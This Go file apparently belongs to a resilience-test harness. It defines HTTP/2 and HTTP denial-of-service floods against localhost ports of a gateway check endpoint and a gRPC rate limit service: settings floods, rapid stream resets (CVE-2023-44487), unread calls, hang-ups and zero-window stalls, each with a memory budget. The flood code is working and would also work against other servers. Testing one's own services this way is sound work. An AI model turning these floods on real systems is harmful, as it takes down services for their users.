package flood

import (
	"errors"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// gateways are floods of the ports that gateways ask at.
var gateways = []Flood{
	{Name: "http-check", Port: httpPort, Stranger: true, Alone: true, Conns: sized(300, 1_000), Attack: pours("GET /check?policy=p&key=k HTTP/1.1\r\nHost: localhost\r\n\r\n"), Memory: func(size Size) int64 { return int64(size.of(128*mib, 256*mib)) }},
	{Name: "rls-settings", Port: rlsPort, Stranger: true, Alone: true, Conns: sized(100, 1_000), Attack: settings, Memory: gatewaysMemory},
	{Name: "rls-reset", Port: rlsPort, Stranger: true, Alone: true, Conns: sized(100, 1_000), Attack: resetStreams, Memory: gatewaysMemory},
	{Name: "rls-calls", Port: rlsPort, Stranger: true, Alone: true, Conns: sized(100, 1_000), Attack: unreadCalls, Memory: gatewaysMemory},
	{Name: "rls-cut", Port: rlsPort, Stranger: true, Alone: true, Conns: same(20), Attack: cutCalls, Memory: bytes(128 * mib)},
	{Name: "rls-window", Port: rlsPort, Stranger: true, Alone: true, Conns: sized(100, 1_000), Attack: closedWindow, Memory: gatewaysMemory},
}

// gatewaysMemory is what connections that speak HTTP/2 may take, with their buffers, and the calls under way on each.
func gatewaysMemory(size Size) int64 { return int64(size.of(256*mib, 512*mib)) }

// framesAtOnce is how many frames or calls are sent at once.
const framesAtOnce = 50

// settings changes the settings of HTTP/2 again and again, each of which is acknowledged.
func settings(c *Conn, _ Size) error {
	c.swallow()
	return c.frames(func(f *http2.Framer, _ uint32) error { return f.WriteSettings() })
}

// resetStreams makes calls and takes them back at once, CVE-2023-44487.
func resetStreams(c *Conn, _ Size) error {
	c.swallow()
	return c.calls(func(f *http2.Framer, id uint32) error { return f.WriteRSTStream(id, http2.ErrCodeCancel) })
}

// unreadCalls makes calls with an empty message and reads no answer.
func unreadCalls(c *Conn, _ Size) error {
	c.deaf()
	return c.calls(func(f *http2.Framer, id uint32) error { return f.WriteData(id, true, make([]byte, 5)) })
}

// cutCalls makes some calls and hangs up.
func cutCalls(c *Conn, _ Size) error {
	const calls = 2 * framesAtOnce
	made := 0
	err := c.calls(func(f *http2.Framer, id uint32) error {
		if made++; made > calls {
			return errCut
		}
		return f.WriteData(id, true, call)
	})
	if errors.Is(err, errCut) {
		return nil
	}
	return err
}

var errCut = errors.New("that was enough")

// closedWindow makes calls whose answers it does not let through.
func closedWindow(c *Conn, _ Size) error {
	c.swallow()
	return c.calls(func(f *http2.Framer, id uint32) error { return f.WriteData(id, true, call) }, http2.Setting{ID: http2.SettingInitialWindowSize})
}

// call is the message of a call that is answered: the domain d, and a descriptor that says k=v.
var call = []byte("\x00\x00\x00\x00\x0d" + "\x0a\x01d" + "\x12\x08" + "\x0a\x06" + "\x0a\x01k" + "\x12\x01v")

// calls begins calls, and sends behind the headers of each what rest writes.
func (c *Conn) calls(rest func(f *http2.Framer, stream uint32) error, settings ...http2.Setting) error {
	headers := callHeaders()
	return c.frames(func(f *http2.Framer, id uint32) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true}); err != nil {
			return err
		}
		return rest(f, id)
	}, settings...)
}

// frames greets with settings, and sends what write writes for each number that a stream can have.
func (c *Conn) frames(write func(f *http2.Framer, stream uint32) error, settings ...http2.Setting) error {
	const streams = 1 << 31
	var block strings.Builder
	block.WriteString(http2.ClientPreface)
	framer := http2.NewFramer(&block, nil)
	if err := framer.WriteSettings(settings...); err != nil {
		return err
	}
	for id := uint32(1); id < streams-2*framesAtOnce; {
		for range framesAtOnce {
			if err := write(framer, id); err != nil {
				return err
			}
			id += 2
		}
		if err := c.send(block.String()); err != nil {
			return err
		}
		block.Reset()
	}
	return nil
}

// callHeaders are those of a call of the rate limit service, none of which the server has to remember.
func callHeaders() []byte {
	var block strings.Builder
	e := hpack.NewEncoder(&block)
	for _, field := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"}, {":authority", "localhost"},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		_ = e.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true}) // a Builder takes all
	}
	return []byte(block.String())
}
